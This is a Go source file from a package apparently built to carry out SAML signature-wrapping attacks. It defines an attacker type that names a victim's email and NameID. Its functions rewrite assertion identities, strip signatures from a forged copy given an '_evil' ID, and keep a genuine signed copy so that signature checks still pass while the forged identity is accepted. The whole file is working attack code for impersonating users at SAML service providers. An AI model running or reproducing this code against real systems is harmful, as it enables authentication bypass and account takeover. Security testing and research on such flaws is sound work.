package samlattack

import (
	"strings"

	"github.com/beevik/etree"
)

// Attacker is who the forged documents claim the user is: the victim the
// attacker wants to log in as.
type Attacker struct {
	// Email replaces the value of the Assertion's email attribute(s).
	Email string
	// NameID replaces the text of the Assertion's Subject NameID. Default:
	// Email (IdPs commonly send the address as an emailAddress NameID).
	NameID string
	// EmailAttribute names the attribute that holds the email, matched
	// against the Attribute's Name and FriendlyName, ignoring case.
	// Default: any of "email", "mail", "emailAddress",
	// "urn:oid:0.9.2342.19200300.100.1.3" and
	// "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress".
	EmailAttribute string
}

var defaultEmailAttributes = []string{
	"email",
	"mail",
	"emailaddress",
	"urn:oid:0.9.2342.19200300.100.1.3",
	"http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress",
}

func (a Attacker) nameID() string {
	if a.NameID != "" {
		return a.NameID
	}
	return a.Email
}

// isEmailAttribute reports whether the saml:Attribute attr holds the email.
func (a Attacker) isEmailAttribute(attr *etree.Element) bool {
	names := defaultEmailAttributes
	if a.EmailAttribute != "" {
		names = []string{a.EmailAttribute}
	}
	for _, key := range []string{"Name", "FriendlyName"} {
		v := attr.SelectAttrValue(key, "")
		for _, n := range names {
			if v != "" && strings.EqualFold(v, n) {
				return true
			}
		}
	}
	return false
}

// nameIDs returns the NameID elements of assertion's Subject.
func nameIDs(assertion *etree.Element) []*etree.Element {
	var out []*etree.Element
	for _, s := range children(assertion, nsAssertion, "Subject") {
		out = append(out, children(s, nsAssertion, "NameID")...)
	}
	return out
}

// emailValues returns the AttributeValue elements of the email
// attribute(s) of assertion.
func (a Attacker) emailValues(assertion *etree.Element) []*etree.Element {
	var out []*etree.Element
	for _, st := range children(assertion, nsAssertion, "AttributeStatement") {
		for _, attr := range children(st, nsAssertion, "Attribute") {
			if a.isEmailAttribute(attr) {
				out = append(out, children(attr, nsAssertion, "AttributeValue")...)
			}
		}
	}
	return out
}

// impersonate rewrites assertion (in place) to name the attacker's victim.
func (a Attacker) impersonate(assertion *etree.Element) error {
	n := 0
	if id := a.nameID(); id != "" {
		for _, el := range nameIDs(assertion) {
			el.SetText(id)
			n++
		}
	}
	if a.Email != "" {
		for _, el := range a.emailValues(assertion) {
			el.SetText(a.Email)
			n++
		}
	}
	if n == 0 {
		return ErrNoIdentity
	}
	return nil
}

// evilID is the ID an evil copy of an element takes, so that a lookup by
// ID still finds the genuine element (and the genuine signature verifies).
func evilID(el *etree.Element) string {
	return "_evil" + el.SelectAttrValue("ID", "")
}

// evilCopy returns a self-contained copy of assertion without its
// signature, with its own ID, naming the attacker's victim.
func (a Attacker) evilCopy(assertion *etree.Element) (*etree.Element, error) {
	e := detach(assertion)
	removeSignatures(e)
	e.CreateAttr("ID", evilID(assertion))
	if err := a.impersonate(e); err != nil {
		return nil, err
	}
	return e, nil
}

// genuineCopy returns a self-contained copy of el without sig, el's
// enveloped signature: what the signature's digest covers, after the
// enveloped-signature transform. Elsewhere in the document, the copy keeps
// el's ID, and the signature verifies against it.
func genuineCopy(el, sig *etree.Element) *etree.Element {
	c := detach(el)
	c.RemoveChildAt(sig.Index())
	return c
}
